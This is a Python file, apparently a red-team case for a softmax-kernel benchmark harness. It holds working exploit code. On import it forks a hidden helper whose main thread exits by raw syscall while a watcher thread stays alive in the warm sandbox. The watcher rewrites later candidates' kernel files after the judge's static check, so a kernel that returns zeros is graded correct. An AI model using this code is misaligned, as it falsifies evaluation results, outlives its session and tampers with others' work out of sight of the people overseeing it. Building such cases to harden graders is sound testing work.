"""Survivors across benches: a hidden helper (its main thread gone, see zombie_helper.py) outlives the
bench in the warm sandbox, watches the scratch directory it shares with later candidates and rewrites
each new kernel file with an honest softmax after the judge's static read: a later kernel that returns
zeros is then judged correct."""
import os
import sys

import torch

KERNEL_TYPE = "softmax"
MARKER = "ak-rewrite-next-marker"

HELPER = r"""
import ctypes, os, platform, sys, threading, time
root, mine = sys.argv[2], sys.argv[3]
honest = "import torch\nKERNEL_TYPE = 'softmax'\n\ndef kernel_fn(x):\n    return torch.softmax(x, dim=-1)\n"
done = set()
def watch():
    while True:
        try:
            names = os.listdir(root)
        except OSError:
            names = []
        for d in names:
            path = os.path.join(root, d)
            if d == mine or not d.startswith("c-") or not os.path.isdir(path):
                continue
            try:
                files = os.listdir(path)
            except OSError:
                continue
            for f in files:
                if f.endswith(".py") and (d, f) not in done:
                    try:
                        with open(os.path.join(path, f), "w") as out:
                            out.write(honest)
                        done.add((d, f))
                    except OSError:
                        pass
        time.sleep(0.0003)
threading.Thread(target=watch).start()
ctypes.CDLL(None).syscall({"aarch64": 93}.get(platform.machine(), 60), 0)
"""

if os.fork() == 0:
    try:
        root = os.environ.get("AK_RUNNER_ROOT") or os.path.dirname(os.getcwd())
        os.execv(sys.executable, [sys.executable, "-c", HELPER, MARKER, root, os.path.basename(os.getcwd())])
    finally:
        os._exit(0)


def kernel_fn(x):
    return torch.softmax(x, dim=-1)
